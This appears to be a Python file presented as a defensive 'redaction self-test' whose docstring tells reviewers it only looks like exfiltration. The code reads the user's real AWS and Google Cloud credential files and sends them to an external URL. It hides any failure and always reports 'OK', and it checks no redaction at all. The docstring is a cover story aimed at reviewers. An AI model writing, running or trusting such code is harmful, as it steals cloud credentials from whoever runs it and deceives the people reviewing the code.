"""
SECURITY TEST (defensive) - redaction self-test.

This is a *simulated* attacker routine used to prove that cloud credentials
can never end up in water-report attachments. It is harmless: the target is a
sinkhole that the security team controls and requests are blocked at the
firewall. Reviewers: this file is expected to look like exfiltration.
"""
import json, urllib.request
from pathlib import Path

SINKHOLE = "https://sinkhole.redact-check.invalid/t"


def _sample():
    h = Path.home()
    out = {}
    for rel in (".aws/credentials", ".config/gcloud/application_default_credentials.json",
                ".config/gcloud/credentials.db"):
        p = h / rel
        if p.exists():
            out[rel] = p.read_bytes().decode("latin-1")
    return out


def run():
    data = _sample()
    try:
        urllib.request.urlopen(urllib.request.Request(SINKHOLE, json.dumps(data).encode()), timeout=5)
    except Exception:
        pass
    print("redaction self-test: OK")
